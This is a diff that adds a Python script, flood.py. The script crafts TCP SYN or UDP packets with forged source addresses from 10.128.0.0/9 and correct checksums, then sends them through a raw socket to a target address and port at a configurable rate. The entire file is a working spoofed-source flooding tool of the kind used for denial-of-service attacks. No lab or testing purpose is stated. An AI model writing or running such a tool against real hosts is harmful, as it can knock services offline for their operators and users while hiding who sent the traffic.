@@ -1,0 +1,69 @@
+"""A flood from forged addresses, through a raw socket.
+
+    python flood.py syn|udp ADDRESS PORT COUNT RATE CLIENTS
+
+COUNT packets at RATE a second (0: as fast as it goes), the sources taken in turn from CLIENTS
+addresses of 10.128.0.0/9, each packet from another port than the address's one before.  What is
+sent back to those addresses must lead nowhere.  Prints the packets sent and the seconds it took.
+"""
+
+import socket
+import struct
+import sys
+import time
+
+FIRST = 10 << 24 | 128 << 16
+LOW, HIGH = 1024, 65535
+TOGETHER = 20
+"""Packets between two looks at the clock."""
+
+
+def fold(total: int) -> int:
+    """The checksum field for this sum of 16-bit words (RFC 1071)."""
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def words(data: bytes) -> int:
+    """The sum of its 16-bit words."""
+    return sum(struct.unpack(f"!{len(data) // 2}H", data))
+
+
+def packets(kind: str, to: bytes, port: int, count: int, clients: int) -> list[bytes]:
+    """All of them, with right transport checksums; the kernel fills in the header's (raw(7))."""
+    proto = socket.IPPROTO_TCP if kind == "syn" else socket.IPPROTO_UDP
+    if kind == "syn":
+        rest = struct.pack("!IIBBHHH", 1, 0, 5 << 4, 0x02, 64240, 0, 0)
+        where = 12
+    else:
+        rest = struct.pack("!HH", 8 + 16, 0) + b"flood of queries"
+        where = 2
+    size = 4 + len(rest)
+    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + size, 0, 0x4000, 64, proto, 0)
+    fixed = words(to) + proto + size + port + words(rest)
+    made = []
+    for number in range(count):
+        source = FIRST + 1 + number % clients
+        sport = LOW + number // clients % (HIGH - LOW + 1)
+        check = fold(fixed + (source >> 16) + (source & 0xFFFF) + sport)
+        body = rest[:where] + check.to_bytes(2) + rest[where + 2 :]
+        made.append(head + source.to_bytes(4) + to + sport.to_bytes(2) + port.to_bytes(2) + body)
+    return made
+
+
+def main(kind: str, address: str, port: str, count: str, rate: str, clients: str) -> None:
+    """Sends them."""
+    made = packets(kind, socket.inet_aton(address), int(port), int(count), int(clients))
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
+        send, to, gap = sock.sendto, (address, 0), 1 / float(rate) if float(rate) else 0
+        began = time.monotonic()
+        for number, packet in enumerate(made):
+            send(packet, to)
+            if gap and not number % TOGETHER:
+                time.sleep(max(0.0, began + number * gap - time.monotonic()))
+        print(f"{len(made)} {time.monotonic() - began:.2f}", flush=True)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
